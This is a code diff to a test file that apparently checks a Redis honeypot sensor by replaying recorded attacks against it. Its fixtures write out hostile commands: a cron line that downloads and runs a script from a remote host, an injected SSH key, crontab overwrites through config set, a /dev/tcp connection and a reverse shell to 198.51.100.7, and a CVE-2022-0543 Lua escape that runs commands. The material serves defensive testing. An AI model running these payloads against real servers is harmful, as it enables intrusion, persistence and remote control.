@@ -1,17 +1,27 @@
 import { describe, expect, test } from 'vitest';
 import type { Act } from '../src/model/act.ts';
+import { encoded } from './emulator-probes/line.ts';
 import { testSensor } from './emulator-probes/test-sensor.ts';
 
 const CRON = '\\n\\n*/2 * * * * root cd1 -fsSL http://203.0.113.9/init.sh | sh\\n\\n';
 const KEY = '\\n\\n\\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7 visitor@example.invalid\\n\\n\\n';
 const OK = '+OK\r\n';
+/** What `id` says on the pretended machine. */
+const WHO = /^\$\d+\r\nuid=\d+\(redis\) gid=\d+\(redis\) groups=\d+\(redis\)\n\r\n$/;
+/** CVE-2022-0543: the way out of the sandbox that Debian's packages of 6.0.16 left open. */
+const ESCAPE =
+  "local io = package.loadlib('/usr/lib/x86_64-linux-gnu/liblua5.1.so.0', 'luaopen_io')() " +
+  "local p = io.popen('id', 'r') local r = p:read('*a') p:close() return r";
 const bulk = (text: string): string => `$${text.length}\r\n${text}\r\n`;
 const pair = (name: string, value: string): string => `*2\r\n${bulk(name)}${bulk(value)}`;
 
-/** Requests with the replies that let the tool go on to its next step, and the acts that tell of them. */
+/**
+ * Requests with the replies that let the tool go on to its next step (undefined: none ever comes), and the acts that
+ * tell of them.
+ */
 interface Attack {
   readonly name: string;
-  readonly steps: readonly (readonly [request: string, reply: string | RegExp])[];
+  readonly steps: readonly (readonly [request: string, reply: string | RegExp | undefined])[];
   readonly acts: readonly Partial<Act>[];
 }
 
@@ -62,7 +72,7 @@ const attacks: readonly Attack[] = [
       ['bgsave', '+Background saving started\r\n'],
       ['config set dir /etc/', OK],
       ['config set dbfilename crontab', OK],
-      ['save', OK],
+      ['save', '-ERR Background save already in progress\r\n'],
       ['keys *', /^\*2\r\n/],
     ],
     acts: [
@@ -71,7 +81,7 @@ const attacks: readonly Attack[] = [
       { type: 'redis.save', dir: '/var/spool/cron', dbfilename: 'root' },
       { type: 'redis.save', dir: '/var/spool/cron/crontabs', dbfilename: 'root' },
       { type: 'redis.save', command: 'bgsave', dir: '/etc/cron.d', dbfilename: 'zzh' },
-      { type: 'redis.save', dir: '/etc', dbfilename: 'crontab' },
+      { type: 'redis.save', dir: '/etc', dbfilename: 'crontab', accepted: false },
     ],
   },
   {
@@ -104,8 +114,10 @@ const attacks: readonly Attack[] = [
       ['COMMAND INFO system.exec', /^\*1\r\n\*7\r\n\$11\r\nsystem\.exec\r\n/],
       ['system.exec "bash -c \\"exec 6<>/dev/tcp/198.51.100.7/60114\\""', '$0\r\n\r\n'],
       ['SYSTEM.EXEC "rm -rf /tmp/exp.so"', '$0\r\n\r\n'],
-      ['system.rev 198.51.100.7 4444', '$0\r\n\r\n'],
-      ['INFO commandstats', /cmdstat_system\.exec:calls=2,/],
+      ['system.exec id', WHO],
+      // Its shell takes the place of the server: it never answers.
+      ['system.rev 198.51.100.7 4444', undefined],
+      ['INFO commandstats', /cmdstat_system\.exec:calls=3,/],
       ['MODULE UNLOAD system', OK],
       ['MODULE UNLOAD system', '-ERR Error unloading module: no such module with that name\r\n'],
       ['system.exec id', '-ERR unknown command `system.exec`, with args beginning with: `id`, \r\n'],
@@ -130,7 +142,7 @@ const attacks: readonly Attack[] = [
       ['CONFIG SET dbfilename red2.so', OK],
       ['SLAVEOF NO ONE', OK],
       ['MODULE LOAD ./red2.so', OK],
-      ['system.exec id', '$0\r\n\r\n'],
+      ['system.exec id', WHO],
     ],
     acts: [{ type: 'redis.module', action: 'load', path: './red2.so', accepted: true }],
   },
@@ -148,8 +160,9 @@ const attacks: readonly Attack[] = [
     steps: [
       [
         "EVAL \"local f = package.loadlib('x.so', 'luaopen_io')() return f.popen('id')\" 0",
-        /nonexistent global variable 'package'\r\n$/,
+        /attempt to call a nil value\r\n$/,
       ],
+      [`EVAL "${ESCAPE}" 0`, WHO],
       ['SCRIPT LOAD "return 1"', bulk('e0e1f9fabfc9d4800c877a703b823ac0578ff8db')],
     ],
     acts: [
@@ -199,10 +212,15 @@ const attacks: readonly Attack[] = [
 describe('a sensor lets an attack run to its end', () => {
   test.for(attacks)('$name', async ({ steps, acts }) => {
     const { recorder, visit } = await testSensor();
-    const line = await visit();
+    let line = await visit();
 
     const unexpected: unknown[] = [];
     for (const [request, expected] of steps) {
+      if (expected === undefined) {
+        line.send(encoded(request));
+        line = await visit();
+        continue;
+      }
       const reply = await line.request(request);
       const fits = typeof expected === 'string' ? reply === expected : expected.test(reply);
       if (!fits) unexpected.push({ request, reply, expected });
